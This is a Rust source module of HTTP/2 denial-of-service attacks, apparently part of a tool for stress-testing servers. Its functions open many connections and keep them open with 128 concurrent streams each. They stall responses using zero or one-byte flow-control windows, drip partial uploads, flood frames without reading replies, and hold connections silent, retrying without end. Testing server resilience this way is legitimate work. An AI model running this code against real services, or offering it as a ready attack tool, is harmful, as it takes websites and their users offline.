//! Attacks over HTTP/2.

use std::future::pending;
use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::sleep;

use crate::frames::{self, Reader};
use crate::h1::{crowd, retry};

/// Streams that a connection has open at a time.
const STREAMS: u32 = 128;

/// Asks on each connection for so much at a time as the server lets it, and reads every answer, as any
/// load generator does.
pub async fn many_requests(to: SocketAddr, connections: usize, path: &'static str) {
    crowd(connections, move || retry(move || ask_and_read(to, path))).await;
}

async fn ask_and_read(to: SocketAddr, path: &str) -> std::io::Result<()> {
    let mut stream = TcpStream::connect(to).await?;
    let ask = |first: u32, count: u32| -> Vec<u8> {
        (0..count).flat_map(|n| frames::get(first + 2 * n, path)).collect()
    };
    stream.write_all(&[frames::hello(0x3fff_ffff), ask(1, STREAMS)].concat()).await?;
    let (mut next, mut reader, mut buffer) =
        (1 + 2 * STREAMS, Reader::default(), vec![0; 64 << 10]);
    while next < 0x7fff_0000 {
        let count = stream.read(&mut buffer).await?;
        if count == 0 {
            break;
        }
        let (ended, mut answer) = reader.read(buffer.get(..count).unwrap_or_default());
        let ended = u32::try_from(ended).unwrap_or(0);
        answer.extend(ask(next, ended));
        next += 2 * ended;
        stream.write_all(&answer).await?;
    }
    Ok(())
}

/// Asks for a path on all streams, and takes nothing of any answer.
pub async fn stalled(to: SocketAddr, connections: usize, path: &'static str) {
    crowd(connections, move || retry(move || ask_and_hold(to, 0, path))).await;
}

/// Asks for a path on all streams, and takes one byte of each answer.
pub async fn one_byte_windows(to: SocketAddr, connections: usize, path: &'static str) {
    crowd(connections, move || retry(move || ask_and_hold(to, 1, path))).await;
}

/// A HEAD now and then shows that the client is there.
async fn ask_and_hold(to: SocketAddr, window: u32, path: &str) -> std::io::Result<()> {
    let mut stream = TcpStream::connect(to).await?;
    let asks: Vec<u8> = (0..STREAMS - 1).flat_map(|n| frames::get(1 + 2 * n, path)).collect();
    stream.write_all(&[frames::hello(window), asks].concat()).await?;
    hold(stream).await
}

/// Answers what has to be answered, until the server closes.
async fn hold(mut stream: TcpStream) -> std::io::Result<()> {
    let (mut reader, mut buffer) = (Reader::default(), vec![0; 4096]);
    loop {
        let count = stream.read(&mut buffer).await?;
        if count == 0 {
            return Ok(());
        }
        let (_, answer) = reader.read(buffer.get(..count).unwrap_or_default());
        stream.write_all(&answer).await?;
    }
}

/// Sends the beginnings of bodies of this size on all streams, as fast as they are taken.
pub async fn uploads(to: SocketAddr, connections: usize, bytes: usize) {
    crowd(connections, move || retry(move || upload(to, bytes))).await;
}

async fn upload(to: SocketAddr, bytes: usize) -> std::io::Result<()> {
    let stream = TcpStream::connect(to).await?;
    let (mut from, mut stream) = stream.into_split();
    let posts: Vec<u8> = (0..STREAMS).flat_map(|n| frames::post(1 + 2 * n, "/echo")).collect();
    stream.write_all(&[frames::hello(0xffff), posts].concat()).await?;
    // More than the windows allow would end the connection: as much as they begin with, and then as
    // much as a reader of the whole body would be given.
    let read = async {
        let mut buffer = vec![0; 4096];
        while from.read(&mut buffer).await? > 0 {}
        Ok(())
    };
    let write = async {
        let piece = 8 << 10;
        for _ in 0..bytes.div_ceil(piece) {
            for n in 0..STREAMS {
                stream.write_all(&frames::data(1 + 2 * n, piece)).await?;
                sleep(Duration::from_micros(200)).await;
            }
        }
        pending::<std::io::Result<()>>().await
    };
    tokio::select! {
        result = read => result,
        result = write => result,
    }
}

/// Sends batch after batch as fast as the server takes them, and reads whatever it says.
pub async fn flood(to: SocketAddr, connections: usize, batch: fn(u32) -> Vec<u8>) {
    crowd(connections, move || retry(move || send_batches(to, batch, true))).await;
}

/// The same, and reads nothing.
pub async fn flood_unread(to: SocketAddr, connections: usize, batch: fn(u32) -> Vec<u8>) {
    crowd(connections, move || retry(move || send_batches(to, batch, false))).await;
}

async fn send_batches(
    to: SocketAddr,
    batch: fn(u32) -> Vec<u8>,
    reads: bool,
) -> std::io::Result<()> {
    let stream = TcpStream::connect(to).await?;
    let (mut from, mut stream) = stream.into_split();
    stream.write_all(&frames::hello(0xffff)).await?;
    let read = async {
        let mut buffer = vec![0; 64 << 10];
        while reads && from.read(&mut buffer).await? > 0 {}
        if reads { Ok(()) } else { pending().await }
    };
    let write = async {
        for number in 0.. {
            stream.write_all(&batch(number)).await?;
        }
        Ok(())
    };
    tokio::select! {
        result = read => result,
        result = write => result,
    }
}

/// Begins, perhaps with one request, and says nothing more.
pub async fn silent(to: SocketAddr, connections: usize, asks: bool) {
    crowd(connections, move || {
        retry(move || async move {
            let mut stream = TcpStream::connect(to).await?;
            let ask = if asks { frames::get(1, "/version") } else { Vec::new() };
            stream.write_all(&[frames::hello(0xffff), ask].concat()).await?;
            hold(stream).await
        })
    })
    .await;
}
